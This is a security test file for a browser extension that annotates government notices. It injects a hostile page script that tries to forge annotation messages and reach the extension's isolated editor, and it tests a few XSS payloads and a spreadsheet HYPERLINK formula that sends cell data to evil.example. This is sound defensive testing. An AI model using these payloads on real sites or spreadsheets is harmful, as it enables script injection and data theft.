// Never trust the page: a hostile script on the official notice, copies on other hosts, and the
// extension's own pages under a strict CSP with no remote code.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readDb, sendFromPage } from './db';
import { EXTENSION_DIR, extensionPage, launchDuban, noticeSeed, openNotice, serveHtml, serveSeeds, type Duban } from './harness';
import { editorSaved, openEditor, reveal, rowLabel, shownAt } from './editor';
import { shadowClick } from './shadow';

const SECRET = '机密备注：仅本人可见';
const HOSTILE_URL = 'https://www.gongshu.gov.cn/art/2024/3/7/art_1229290402_7777777.html';

/** Runs in the page's own world once duban is ready: everything a page script could try. */
const HOSTILE_SCRIPT = `<script>
window.__targets = [];
for (const type of ['keydown', 'input', 'beforeinput']) {
  document.addEventListener(type, (e) => window.__targets.push(type + ':' + (e.target && e.target.localName)), true);
}
window.__attack = async (extensionId, secret) => {
  const report = {};
  const host = document.querySelector('[data-duban-item="10"]');
  report.shadowRoot = host.shadowRoot === null ? 'null' : 'open';
  try { host.attachShadow({ mode: 'open' }); report.attach = 'attached'; } catch (e) { report.attach = 'refused'; }
  const editor = document.querySelector('[data-duban-editor]');
  report.editorRoot = !editor ? 'none' : editor.shadowRoot === null ? 'null' : 'open';
  report.frames = [];
  for (let i = 0; i < window.frames.length; i++) {
    try { report.frames.push(String(window.frames[i].document.body.innerText).slice(0, 40)); } catch (e) { report.frames.push('refused'); }
  }
  report.secretInDom = document.documentElement.outerHTML.includes(secret) || document.body.innerText.includes(secret);
  report.chromeRuntime = typeof chrome !== 'undefined' && !!(chrome.runtime && chrome.runtime.sendMessage);
  try {
    await new Promise((resolve, reject) => {
      chrome.runtime.sendMessage(extensionId, { id: 1, type: 'saveAnnotation', timestamp: Date.now(),
        data: { noticeKey: '拱政办发〔2024〕2号@www.gongshu.gov.cn', itemKey: '10', fingerprint: 'x', note: 'pwned' } }, (r) => resolve(r));
    });
    report.sendMessage = 'sent';
  } catch (e) { report.sendMessage = 'failed'; }
  const forged = { id: 2, type: 'saveAnnotation', timestamp: Date.now(),
    data: { noticeKey: '拱政办发〔2024〕2号@www.gongshu.gov.cn', itemKey: '10', fingerprint: 'x', note: 'pwned', status: 'done' } };
  window.postMessage(forged, '*');
  document.dispatchEvent(new CustomEvent('saveAnnotation', { detail: forged }));
  for (const type of ['input', 'change', 'blur', 'focusout', 'pagehide']) host.dispatchEvent(new Event(type, { bubbles: true, composed: true }));
  host.dispatchEvent(new KeyboardEvent('keydown', { key: 'Delete', bubbles: true, composed: true }));
  host.setAttribute('data-duban-item', '11');
  await new Promise((r) => setTimeout(r, 1500));
  return report;
};
</script>`;

describe('a hostile page script on the official notice', () => {
  let duban: Duban;
  beforeAll(async () => {
    duban = await launchDuban();
    await serveSeeds(duban.context);
    const html = readFileSync(noticeSeed().path, 'utf8').replace('</head>', `${HOSTILE_SCRIPT}</head>`);
    await serveHtml(duban.context, HOSTILE_URL, html);
  });
  afterAll(() => duban?.close());

  it('cannot read, change or forge an annotation, nor reach the note field', async () => {
    const page = await openNotice(duban.context, HOSTILE_URL);
    const frame = await openEditor(page, 10);
    await page.keyboard.type(SECRET);
    await page.keyboard.press('Tab');
    await editorSaved(frame);
    await expect.poll(() => rowLabel(page, 10, 'note')).toBe(SECRET);
    // The note is typed in duban's frame: not one key or input event of it reaches the page.
    expect(await page.evaluate(() => (window as any).__targets)).toEqual([]);
    const before = await readDb(duban.context, duban.extensionId);

    const report = await page.evaluate(([id, secret]) => (window as any).__attack(id, secret), [duban.extensionId, SECRET]);
    expect(report).toEqual({
      shadowRoot: 'null',
      attach: 'refused',
      editorRoot: 'null',
      // An iframe in a shadow root is not among window.frames: the page cannot even reach duban's.
      frames: [],
      secretInDom: false,
      chromeRuntime: false,
      sendMessage: 'failed',
    });

    const after = await readDb(duban.context, duban.extensionId);
    expect(after.annotations).toEqual(before.annotations);
    expect(after.history).toEqual(before.history);
    expect(after.annotations.find((a) => a.itemKey === '10')?.note).toBe(SECRET);
    // The page relabelled item 10's host "11" (it comes first of the two now): its Edit button still
    // opens item 10, since which item a row is comes from duban's own state, never from the DOM.
    await reveal(page, 11);
    await shadowClick(page, 11, 'button.edit');
    expect(await (await shownAt(page, 10)).locator('#ed-note').inputValue()).toBe(SECRET);
    await page.close();
  });

  it('gives a copy of the notice on another host no overlay and no way in', async () => {
    const copy = 'https://gongshu-gov.example.org/art/2024/3/7/art_1229290402_4246130.html';
    await serveHtml(duban.context, copy, readFileSync(noticeSeed().path, 'utf8').replace('</head>', `${HOSTILE_SCRIPT}</head>`));
    const page = await duban.context.newPage();
    await page.goto(copy, { waitUntil: 'load' });
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => [document.documentElement.getAttribute('data-duban'), document.querySelectorAll('[data-duban-item]').length])).toEqual([null, 0]);
    const runtime = await page.evaluate(() => typeof (globalThis as any).chrome?.runtime?.sendMessage);
    expect(runtime).toBe('undefined');
    await page.close();
  });
});

describe('notes carrying markup, links and formulas', () => {
  const PAYLOADS = [
    '<img src=x onerror="window.__pwned=1">',
    '<script>window.__pwned=1</script>',
    '<a href="javascript:window.__pwned=1">点我 click</a>',
    '=HYPERLINK("http://evil.example/?"&A1,"详情")',
  ];

  it('stay text in the overview and its details', async () => {
    const duban = await launchDuban();
    try {
      const page = await extensionPage(duban.context, duban.extensionId, 'popup.html');
      for (const [i, note] of PAYLOADS.entries()) {
        const r = await sendFromPage(page, 'saveAnnotation', { noticeKey: '拱政办发〔2024〕2号@www.gongshu.gov.cn', itemKey: String(i + 1), fingerprint: 'f', note, status: 'in_progress' });
        expect(r.ok).toBe(true);
      }
      const overview = await extensionPage(duban.context, duban.extensionId, 'overview.html');
      await overview.waitForFunction(() => performance.getEntriesByName('duban-overview-complete').length > 0);
      const rows = overview.locator('table.overview tbody tr[data-item]');
      expect(await rows.count()).toBe(PAYLOADS.length);
      const shown = await rows.allTextContents();
      for (const note of PAYLOADS) expect(shown.some((t) => t.includes(note.slice(0, 30)))).toBe(true);
      await rows.nth(2).locator('td.c-text').click();
      await overview.keyboard.press('Enter');
      const note = overview.locator('#details-note');
      await note.waitFor();
      expect(await note.inputValue()).toBe(PAYLOADS[2]);
      const found = await overview.evaluate(() => ({
        imgs: document.querySelectorAll('main img, table img').length,
        scripts: [...document.scripts].filter((s) => s.textContent?.includes('__pwned')).length,
        jsLinks: document.querySelectorAll('a[href^="javascript:"]').length,
        pwned: (window as any).__pwned,
      }));
      expect(found).toEqual({ imgs: 0, scripts: 0, jsLinks: 0, pwned: undefined });
    } finally {
      await duban.close();
    }
  });
});

describe("duban's own pages", () => {
  it('declare a strict CSP and load no remote code', () => {
    const manifest = JSON.parse(readFileSync(join(EXTENSION_DIR, 'manifest.json'), 'utf8'));
    const csp: string = manifest.content_security_policy.extension_pages;
    expect(csp).toMatch(/script-src 'self'(;|$)/);
    expect(csp).not.toMatch(/unsafe-eval|unsafe-inline|https?:/);
    expect(manifest.externally_connectable).toBeUndefined();
    for (const file of readdirSync(EXTENSION_DIR).filter((f) => f.endsWith('.html'))) {
      const html = readFileSync(join(EXTENSION_DIR, file), 'utf8');
      expect(html, file).not.toMatch(/<script[^>]+src=["']?(https?:)?\/\//i);
      expect(html, file).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>\s*\S/i); // no inline script
    }
  });

  it('refuse an inline or remote script in a duban page', async () => {
    const duban = await launchDuban();
    try {
      const page = await extensionPage(duban.context, duban.extensionId, 'popup.html');
      const violations: string[] = [];
      page.on('console', (m) => m.text().includes('Content Security Policy') && violations.push(m.text()));
      await page.addScriptTag({ content: 'window.__ran = true' }).catch(() => {});
      await page.addScriptTag({ url: 'https://www.gongshu.gov.cn/evil.js' }).catch(() => {});
      expect(await page.evaluate(() => (window as any).__ran)).toBeUndefined();
      expect(violations.length).toBeGreaterThan(0);
    } finally {
      await duban.close();
    }
  });
});
